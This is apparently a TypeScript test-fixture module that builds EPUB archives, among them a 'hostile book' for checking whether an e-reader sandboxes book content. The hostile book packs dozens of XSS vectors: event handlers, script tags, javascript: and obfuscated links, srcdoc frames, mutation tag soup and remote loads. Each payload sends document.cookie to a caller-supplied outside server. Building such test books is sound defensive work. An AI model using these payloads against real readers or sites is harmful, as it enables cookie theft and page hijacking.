import { ZipFile } from 'yazl';

export interface MadeChapter {
  readonly file: string;
  readonly title: string;
  /** Within the body. */
  readonly content: string;
  /** Within the head. */
  readonly head?: string;
  readonly type?: string;
  /** The whole file, instead of a page with that content. */
  readonly whole?: string;
}
export interface MadeBook {
  readonly title: string;
  readonly author?: string;
  readonly chapters: readonly MadeChapter[];
  readonly hasContents?: boolean;
  /** Other files of the archive, of which those with a media type are in the manifest. */
  readonly more?: Readonly<Record<string, { readonly text: string; readonly type?: string }>>;
  readonly left?: readonly string[];
  /** `rtl` for a book that goes on to the left. */
  readonly direction?: 'rtl';
}

const page = ({ title, content, head = '' }: MadeChapter): string =>
  `<?xml version="1.0" encoding="UTF-8"?><html xmlns="http://www.w3.org/1999/xhtml" xmlns:epub="http://www.idpf.org/2007/ops" xmlns:xlink="http://www.w3.org/1999/xlink"><head><title>${title}</title>${head}</head><body>${content}</body></html>`;

/** An EPUB as a program would write it, or a broken one. */
export async function madeBook(book: MadeBook): Promise<Buffer> {
  const { title, author = 'Aoi Mori', chapters, hasContents = true, more = {}, left = [], direction } = book;
  const items = chapters.map(
    ({ file, type = 'application/xhtml+xml' }, nth) =>
      `<item id="c${nth}" href="${file}" media-type="${type}"/>`,
  );
  const others = Object.entries(more).flatMap(([name, { type }], nth) =>
    type === undefined
      ? []
      : [`<item id="m${nth}" href="${name.replace('OEBPS/', '')}" media-type="${type}"/>`],
  );
  const nav = hasContents
    ? '<item id="nav" href="nav.xhtml" media-type="application/xhtml+xml" properties="nav"/>'
    : '';
  const spine = chapters.map((_, nth) => `<itemref idref="c${nth}"/>`).join('');
  const list = chapters.map((one) => `<li><a href="${one.file}">${one.title}</a></li>`).join('');
  const files: Record<string, string> = {
    mimetype: 'application/epub+zip',
    'META-INF/container.xml':
      '<?xml version="1.0"?><container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="OEBPS/content.opf" media-type="application/oebps-package+xml"/></rootfiles></container>',
    'OEBPS/content.opf': `<?xml version="1.0"?><package xmlns="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="id"><metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:identifier id="id">urn:made:${title}</dc:identifier><dc:title>${title}</dc:title><dc:creator>${author}</dc:creator><dc:language>en</dc:language></metadata><manifest>${nav}${items.join('')}${others.join('')}</manifest><spine${direction === undefined ? '' : ` page-progression-direction="${direction}"`}>${spine}</spine></package>`,
    ...(hasContents
      ? {
          'OEBPS/nav.xhtml': `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml" xmlns:epub="http://www.idpf.org/2007/ops"><head><title>Contents</title></head><body><nav epub:type="toc"><ol>${list}</ol></nav></body></html>`,
        }
      : {}),
    ...Object.fromEntries(chapters.map((one) => [`OEBPS/${one.file}`, one.whole ?? page(one)])),
    ...Object.fromEntries(Object.entries(more).map(([name, { text }]) => [name, text])),
  };
  const zip = new ZipFile();
  for (const [name, text] of Object.entries(files))
    if (!left.includes(name)) zip.addBuffer(Buffer.from(text), name, { compress: name !== 'mimetype' });
  zip.end();
  const parts: Buffer[] = [];
  for await (const part of zip.outputStream) parts.push(Buffer.from(part));
  return Buffer.concat(parts);
}

const sentences = (about: string, count: number): string =>
  Array.from(
    { length: count },
    (_, nth) =>
      `<p>${about}, sentence ${nth + 1}: the lake had frozen in the night, not all of it, only the bay below the houses.</p>`,
  ).join('');

/** A novel of so many chapters, of a few pages each unless they have more sentences. */
export const novel = (count = 5, length = 40): Promise<Buffer> =>
  madeBook({
    title: 'The Frozen Bay',
    chapters: Array.from({ length: count }, (_, nth) => ({
      file: `chapter-${nth + 1}.xhtml`,
      title: `Letters ${nth + 1}`,
      content: `<h1>Letters ${nth + 1}</h1>${sentences(`Chapter ${nth + 1}`, length)}`,
    })),
  });

/**
 * A book that tries everything: each way asks the foreign server for a path of its own, and what runs as a script tells
 * it. Each chapter says “Quiet words” at its end.
 */
export function hostileBook(foreign: string): Promise<Buffer> {
  const at = (way: string): string => `${foreign}/stored/${way}`;
  const run = (way: string): string =>
    `try{parent.postMessage('x','*');top.document.title='owned'}catch(e){}new Image().src='${at(way)}?'+document.cookie;fetch('${at(`${way}-fetch`)}')`;
  const xml = (text: string): string =>
    text.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;');
  const quiet = '<p>Quiet words</p>';
  const chapters: MadeChapter[] = [
    {
      file: 'handlers.xhtml',
      title: 'Handlers',
      content: `<p onclick="${xml(run('onclick'))}">Press me</p><img src="nowhere.png" onerror="${xml(run('onerror'))}" alt=""/><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="${xml(run('svg-onload'))}"><animate attributeName="x" onbegin="${xml(run('onbegin'))}" dur="1s"/></svg><details open="" ontoggle="${xml(run('ontoggle'))}"><summary>More</summary></details><audio src="nowhere.mp3" onerror="${xml(run('audio-onerror'))}"></audio><p tabindex="1" autofocus="" onfocus="${xml(run('onfocus'))}">Focus</p>${quiet}`,
    },
    {
      file: 'scripts.xhtml',
      title: 'Scripts',
      head: `<script>${xml(run('head-script'))}</script><script src="own.js"></script><script src="${at('remote-script.js')}"></script><base href="${at('base')}/"/>`,
      content: `<script>${xml(run('body-script'))}</script><svg xmlns="http://www.w3.org/2000/svg"><script>${xml(run('svg-script'))}</script></svg><script type="module">${xml(run('module'))}</script>${quiet}`,
    },
    {
      file: 'remote.xhtml',
      title: 'Remote files',
      head: `<link rel="stylesheet" href="${at('sheet.css')}"/><link rel="preload" as="image" href="${at('preload.png')}"/><link rel="prefetch" href="${at('prefetch')}"/><link rel="preconnect" href="${foreign}"/><link rel="stylesheet" href="own.css"/><style>@import url("${at('import.css')}"); @font-face { font-family: far; src: url("${at('font.woff2')}") } body { font-family: far; background: url("${at('background.png')}") } li { list-style-image: url("${at('list.png')}") }</style>`,
      content: `<img src="${at('image.png')}" alt=""/><img srcset="${at('srcset.png')} 1x" alt=""/><picture><source srcset="${at('source.png')}"/><img src="nowhere.png" alt=""/></picture><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="50" height="50"><image href="${at('svg-image.png')}" width="50" height="50"/><image xlink:href="${at('xlink.png')}" width="50" height="50"/><use href="${at('use.svg')}#a"/><rect width="9" height="9" fill="url(${at('paint.svg')}#a)"/></svg><video src="${at('video.mp4')}" poster="${at('poster.png')}"></video><audio src="${at('audio.mp3')}"></audio><object data="${at('object.html')}"></object><embed src="${at('embed.html')}"/><p style="background:url('${at('style.png')}')">Styled</p><table background="${at('table.png')}"><tr><td>Cell</td></tr></table><ul><li>One</li></ul>${quiet}`,
    },
    {
      file: 'leaves.xhtml',
      title: 'Ways out',
      head: `<meta http-equiv="refresh" content="0; url=${at('refresh')}"/><meta http-equiv="Content-Security-Policy" content="script-src *"/>`,
      content: `<form action="${at('form')}" method="post"><input name="a" value="b"/><button formaction="${at('formaction')}">Send the form</button></form><p><a href="javascript:${xml(run('javascript-link'))}">Script link</a> <a href="&#9;java&#10;script:${xml(run('spaced-link'))}">Spaced link</a> <a href="data:text/html,&lt;script>1&lt;/script>">Data link</a> <a href="${at('link')}" target="_top" ping="${at('ping')}">Far link</a></p>${quiet}`,
    },
    {
      file: 'frames.xhtml',
      title: 'Frames',
      content: `<iframe src="${at('frame')}"></iframe><iframe srcdoc="${xml(`<script>${run('srcdoc')}</script>`)}"></iframe><iframe src="javascript:${xml(run('frame-javascript'))}"></iframe><iframe src="inner.xhtml"></iframe>${quiet}`,
    },
    {
      file: 'tag-soup.xhtml',
      title: 'Tag soup',
      content: '',
      whole: `<html><body><p>Unclosed<br><img src=x onerror="${run('soup-onerror')}"><svg><style><img src=x onerror="${run('soup-mutation')}"></style></svg><noscript><p title="</noscript><img src=x onerror=${run('soup-noscript').replaceAll(' ', '/')}>"></noscript><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run('soup-math').replaceAll(' ', '/')}&gt;">${quiet}`,
    },
    {
      file: 'drawing.svg',
      title: 'Drawing',
      type: 'image/svg+xml',
      content: '',
      whole: `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 300 60" onload="${xml(run('spine-svg-onload'))}"><script>${xml(run('spine-svg-script'))}</script><foreignObject width="300" height="60"><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="${xml(run('foreign-object'))}"/></body></foreignObject><text y="30">Quiet words</text></svg>`,
    },
    {
      file: 'typed.html',
      title: 'Odd type',
      type: 'TEXT/HTML; charset=utf-8',
      content: '',
      whole: `<html><body onload="${run('odd-type')}"><script>${run('odd-type-script')}</script>${quiet}</body></html>`,
    },
  ];
  return madeBook({
    title: 'Hostile <b>book</b>'.replaceAll('<', '&lt;'),
    chapters,
    more: {
      'OEBPS/own.js': { text: run('own-script'), type: 'text/javascript' },
      'OEBPS/own.css': {
        text: `@import "${at('nested-import.css')}"; p { background: url(${at('own-css.png')}) }`,
        type: 'text/css',
      },
      'OEBPS/inner.xhtml': {
        text: `<html xmlns="http://www.w3.org/1999/xhtml"><body><script>${xml(run('inner'))}</script></body></html>`,
        type: 'application/xhtml+xml',
      },
    },
  });
}
